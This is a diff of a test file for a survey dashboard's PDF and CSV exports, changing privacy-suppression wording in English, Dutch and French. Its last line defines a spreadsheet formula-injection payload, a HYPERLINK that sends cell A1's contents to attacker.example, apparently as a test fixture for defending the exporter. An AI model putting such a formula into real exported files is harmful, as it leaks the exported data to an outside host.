@@ -152,8 +152,8 @@ def test_the_pdf_has_the_dashboards_numbers_charts_and_links(dashboard, dashboar
     text = _pdf_text(pdf)
 
     assert "Care 7 20 35.0%" in text
-    assert "Office fewer than 6 – –" in text
-    assert "fewer than 6 fewer than 6 responses" in text  # the legend of hidden values
+    assert "Office hidden for privacy – –" in text
+    assert "hidden for privacy hidden to protect small groups" in text  # the legend
     organisation = next(r for r in dashboard.heatmap if r.label == "Whole organisation")
     assert "Whole organisation " + " ".join(s.display for s in organisation.scores) in text
     assert "often or always" in text  # the charts' band words
@@ -207,13 +207,15 @@ def test_exports_speak_the_language_they_are_made_in(org_a, departments_a, today
 
     assert text.startswith("Tabel;Groep;")
     assert rows[("participation", "Kitchen", "responses")][2] == (
-        "minder dan 6 antwoorden (5 naast één die een lezer kan kennen)"
+        "verborgen om kleine groepen en individuele antwoorden te beschermen (een cijfer "
+        "vraagt 6 antwoorden, 5 naast één die een lezer kan kennen)"
     )
     assert dashboard.overall.value == 55.0
     assert rows[("matrix", "Hele organisatie", "overall")][:2] == ("55,0", "soms")
     assert french[("matrix", "Toute l'organisation", "overall")][:2] == ("55,0", "parfois")
     assert reader.trailer["/Root"]["/Lang"] == "fr"
-    assert "moins de 6" in " ".join(page.extract_text() for page in reader.pages)
+    french_text = " ".join(page.extract_text() for page in reader.pages)
+    assert "masqué pour la confidentialité" in french_text
 
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
